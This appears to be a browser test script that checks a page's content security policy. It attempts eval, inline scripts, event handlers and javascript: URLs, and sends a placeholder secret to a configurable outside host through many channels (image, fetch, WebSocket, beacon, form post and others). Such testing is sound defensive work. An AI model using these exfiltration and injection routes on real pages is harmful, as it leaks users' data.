// What an intruder in the page would try, each thing told as "blocked" or what came of it.
// The last word on what got out is the log of the server it tries to reach.
const elsewhere = new URL(import.meta.url).searchParams.get('elsewhere');
const told = {};
const body = document.body;

function attempt(what, act) {
  try {
    const came = act();
    told[what] = came === undefined ? 'ran' : came;
  } catch (error) {
    told[what] = 'blocked';
  }
}

attempt('eval', () => { (0, eval)('1 + 1'); });
attempt('new Function', () => { new Function('return 1')(); });

window.intruder = [];
try { setTimeout("window.intruder.push('timer')", 0); } catch { /* refused at once */ }

// Each of these may be refused at once (trusted types) or later (the policy): what counts is whether
// it ever ran, which is asked at the end.
function quietly(act) {
  try { act(); } catch { /* refused at once */ }
}

quietly(() => {
  const script = document.createElement('script');
  script.textContent = "window.intruder.push('inline script')";
  body.append(script);
});
quietly(() => {
  const handler = document.createElement('div');
  body.append(handler);
  handler.setAttribute('onclick', "window.intruder.push('inline handler')");
  handler.click();
});
quietly(() => {
  const holder = document.createElement('div');
  body.append(holder);
  holder.innerHTML = '<img src="x" onerror="window.intruder.push(\'markup handler\')">';
});
quietly(() => {
  const link = document.createElement('a');
  link.href = "javascript:window.intruder.push('script address')";
  body.append(link);
  link.click();
});
quietly(() => {
  const style = document.createElement('style');
  style.textContent = 'body { --intruder: yes }';
  body.append(style);
});

const arrives = (what, make) => new Promise(resolve => {
  const end = came => { told[what] = came; resolve(); };
  // A slow machine must not pass for a strict policy.
  setTimeout(() => end('blocked'), 6000);
  try { make(end); } catch { end('blocked'); }
});

const place = (name) => elsewhere + name + '?secret=a-child';

const tries = [
  arrives('remote image', end => {
    const image = new Image();
    image.onload = () => end('loaded');
    image.onerror = () => end('blocked');
    image.src = place('picture.png');
    body.append(image);
  }),
  arrives('remote fetch', end => {
    fetch(place('fetch'), { mode: 'no-cors' }).then(() => end('fetched'), () => end('blocked'));
  }),
  arrives('remote request', end => {
    const request = new XMLHttpRequest();
    request.onload = () => end('answered');
    request.onerror = () => end('blocked');
    request.open('GET', place('request'));
    request.send();
  }),
  arrives('remote script', end => {
    const remote = document.createElement('script');
    remote.onload = () => end('loaded');
    remote.onerror = () => end('blocked');
    remote.src = place('script.js');
    body.append(remote);
  }),
  arrives('remote frame', end => {
    const frame = document.createElement('iframe');
    addEventListener('securitypolicyviolation', event => {
      if (event.effectiveDirective === 'frame-src') end('blocked');
    });
    frame.onload = () => setTimeout(() => end('loaded'), 300);
    frame.src = place('frame');
    body.append(frame);
  }),
  arrives('web socket', end => {
    const socket = new WebSocket(place('socket').replace('http', 'ws'));
    socket.onopen = () => end('opened');
    socket.onerror = () => end('blocked');
  }),
  arrives('event source', end => {
    const source = new EventSource(place('events'));
    source.onopen = () => end('opened');
    source.onerror = () => { source.close(); end('blocked'); };
  }),
];

// These never tell; only the other server can.
try { navigator.sendBeacon(place('beacon'), 'a child'); } catch { /* its log tells */ }
for (const kind of ['prefetch', 'preload', 'stylesheet', 'icon']) {
  const hint = document.createElement('link');
  hint.rel = kind;
  if (kind === 'preload') hint.as = 'image';
  hint.href = place(kind);
  document.head.append(hint);
}
const form = document.createElement('form');
form.action = place('form');
form.target = 'nowhere-yet';
form.method = 'post';
body.append(form);
try { form.submit(); } catch { /* its log tells */ }

await Promise.all(tries);
for (const what of ['timer', 'inline script', 'inline handler', 'markup handler', 'script address']) {
  told[what] = window.intruder.includes(what) ? 'ran' : 'blocked';
}
told['inline style'] = getComputedStyle(body).getPropertyValue('--intruder') ? 'applied' : 'blocked';
document.documentElement.dataset.attacks = JSON.stringify(told);
